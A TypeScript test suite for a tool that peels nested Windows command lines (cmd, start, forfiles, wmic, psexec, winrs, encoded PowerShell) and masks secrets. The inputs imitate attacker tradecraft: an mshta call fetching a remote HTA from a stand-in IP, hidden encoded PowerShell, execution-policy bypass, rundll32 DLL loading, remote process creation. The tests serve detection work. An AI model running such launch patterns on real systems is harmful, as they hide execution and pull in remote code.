import { describe, expect, test } from "vitest";
import { withoutCarets } from "../../../src/task/peel.ts";
import {
  MAX_LAYER_CHARS,
  commandLine,
  unwrapCommand,
} from "../../../src/task/unwrap.ts";

const encoded = (script: string): string =>
  Buffer.from(script, "utf16le").toString("base64");

/** Layers as `kind: text`. */
const layers = (command: string, args?: string): string[] =>
  unwrapCommand(command, args).layers.map(
    ({ kind, text }) => `${kind}: ${text}`,
  );

describe("worked examples", () => {
  test("output of a command into a file", () => {
    expect(
      unwrapCommand("cmd.exe", "/C whoami > %windir%\\Temp\\aB.tmp 2>&1"),
    ).toEqual({
      layers: [{ kind: "cmd", text: "whoami > %windir%\\Temp\\aB.tmp 2>&1" }],
    });
  });

  test("cmd, start, encoded PowerShell", () => {
    expect(
      layers(
        'cmd /c start /min "" powershell -w hidden -e VwByAGkAdABlAC0ASABvAHMAdAAgADEA',
      ),
    ).toEqual([
      'cmd: start /min "" powershell -w hidden -e VwByAGkAdABlAC0ASABvAHMAdAAgADEA',
      "start: powershell -w hidden -e VwByAGkAdABlAC0ASABvAHMAdAAgADEA",
      "powershell-encoded: Write-Host 1",
    ]);
  });

  test.each([
    "powershell -ex bypass -file c:\\a.ps1",
    "rundll32.exe C:\\ProgramData\\k.dll,#1",
    "mshta http://192.0.2.7/a.hta",
  ])("nothing to peel: %s", (command) => {
    expect(unwrapCommand(command)).toEqual({ layers: [] });
  });
});

describe("cmd", () => {
  test.each([
    ["cmd /q /d /c dir", "dir"],
    ["cmd.exe /V:ON/Cdir", "dir"],
    ["C:\\x\\CMD.EXE /k dir", "dir"],
    ["cmd /r dir", "dir"],
    ['cmd /c "dir c:\\"', "dir c:\\"],
    ['cmd /c "dir" x', '"dir" x'],
    ['cmd /c "dir"', '"dir"'],
    ['cmd /c "a b.exe" -x', '"a b.exe" -x'],
    ['cmd /c ""a b.exe" "c d""', '"a b.exe" "c d"'],
    ['cmd /c "a&b"', "a&b"],
    ['cmd /c "open', "open"],
    ['cmd /c s^et ^^x "a^b"', 'set ^x "a^b"'],
  ])("%s", (command, inner) => {
    expect(layers(command)).toEqual([`cmd: ${inner}`]);
  });

  test.each(["cmd", "cmd /q", "cmd dir", "cmd /c"])(
    "no command: %s",
    (line) => {
      expect(layers(line)).toEqual([]);
    },
  );

  test("carets", () => {
    expect(withoutCarets("a^")).toBe("a");
    expect(withoutCarets("plain")).toBe("plain");
  });
});

describe("other wrappers", () => {
  test.each([
    ['start "a title" /d "c:\\x y" /wait calc -x', ["start: calc -x"]],
    ["start /b", []],
    ["conhost.exe --headless --width 80 calc", ["conhost: calc"]],
    ["conhost.exe calc", []],
    ['forfiles /p c:\\x /m n.exe /c "calc -x"', ["forfiles: calc -x"]],
    ["forfiles /p c:\\x", []],
    [
      'wmic /node:h process call create "calc \\"a b\\"","c:\\"',
      ['wmic-process-create: calc "a b"'],
    ],
    ["wmic process list", []],
    ["psexec \\\\h -i 1 -u a -p pw -s calc /x", ["psexec: calc /x"]],
    ["psexec64 -accepteula -i calc", ["psexec: calc"]],
    ["psexec \\\\h", []],
    ["winrs -r:h calc", ["winrs: calc"]],
  ])("%s", (command, expected) => {
    expect(layers(command)).toEqual(expected);
  });
});

describe("PowerShell", () => {
  const word = encoded("Write-Host 1");
  test.each([
    "-e",
    "-en",
    "-enc",
    "-encod",
    "-EncodedCommand",
    "-ec",
    "/e",
    "--enc",
    "\u2013enc",
  ])("%s", (option) => {
    expect(layers(`powershell -nop ${option} ${word}`)).toEqual([
      "powershell-encoded: Write-Host 1",
    ]);
  });

  test.each(["-ex", "-ep", "-ea", "-f", "-file", "encodedcommand"])(
    "not %s",
    (option) => {
      expect(layers(`powershell ${option} ${word}`)).toEqual([]);
    },
  );

  test("what stands behind -File and -Command belongs to the script", () => {
    expect(layers(`powershell -file a.ps1 -e ${word}`)).toEqual([]);
    expect(layers(`powershell -c a -e ${word}`)).toEqual([
      `powershell-command: a -e ${word}`,
    ]);
  });

  test("one quoted word gives its content", () => {
    expect(layers(String.raw`pwsh -Command "a \"b\" c"`)).toEqual([
      'powershell-command: a "b" c',
    ]);
    expect(layers("powershell -c -")).toEqual([]);
  });

  test("blanks and missing padding are tolerated", () => {
    const bare = encoded("ab").replace(/=+$/, "");
    expect(layers(`powershell -e ${bare}`)).toEqual(["powershell-encoded: ab"]);
    expect(
      layers(`powershell -e "${word.slice(0, 8)} ${word.slice(8)}"`),
    ).toEqual(["powershell-encoded: Write-Host 1"]);
  });

  test("a cut value says so", () => {
    expect(unwrapCommand(`powershell -e ${word.slice(0, 9)}`).layers).toEqual([
      { kind: "powershell-encoded", text: "Wri", truncated: true },
    ]);
    expect(unwrapCommand(`powershell -e ${word.slice(0, 7)}`).layers).toEqual([
      { kind: "powershell-encoded", text: "Wr", truncated: true },
    ]);
  });

  test("no base64, and no text", () => {
    expect(unwrapCommand("powershell -e $x")).toEqual({
      layers: [],
      problem: "the encoded command is not base64",
    });
    const zeros = Buffer.alloc(100).toString("base64");
    expect(unwrapCommand(`powershell -e ${zeros}`)).toEqual({
      layers: [],
      problem: `the encoded command is not readable as UTF-16 text: ${"00".repeat(64)}`,
    });
  });
});

describe("limits", () => {
  test("eight layers", () => {
    const unwrapped = unwrapCommand(`${"cmd /c ".repeat(9)}calc`);
    expect(unwrapped.layers).toHaveLength(8);
    expect(unwrapped.problem).toBe("depth-limit");
    expect(unwrapCommand(`${"cmd /c ".repeat(8)}calc`).problem).toBeUndefined();
  });

  test("all text together", () => {
    expect(unwrapCommand(`cmd /c ${"x".repeat(MAX_LAYER_CHARS)}`)).toEqual({
      layers: [],
      problem: "too-large",
    });
    expect(
      unwrapCommand(`cmd /c ${"x".repeat(MAX_LAYER_CHARS / 2)}`).problem,
    ).toBe("depth-limit");
  });
});

test("secrets in layers are masked, also in what was encoded", () => {
  const word = encoded('schtasks /create /rp "top secret" /tn x');
  expect(layers(`cmd /c powershell -e ${word}`)).toEqual([
    "cmd: powershell -e ****",
    "powershell-encoded: schtasks /create /rp **** /tn x",
  ]);
  const ascii = Buffer.from(
    "\0\0\x01\0\x02\0\x03\0\x04\0\x05\0 /rp topsecret\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
  ).toString("base64");
  expect(JSON.stringify(unwrapCommand(`powershell -e ${ascii}`))).not.toContain(
    Buffer.from("topsecret").toString("hex"),
  );
});

test("a path with blanks keeps together", () => {
  expect(commandLine("C:\\Program Files\\p.exe", "-x")).toBe(
    '"C:\\Program Files\\p.exe" -x',
  );
  expect(commandLine("a", null)).toBe("a");
  expect(commandLine("a", "")).toBe("a");
  expect(
    layers("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "-c calc"),
  ).toEqual(["powershell-command: calc"]);
});
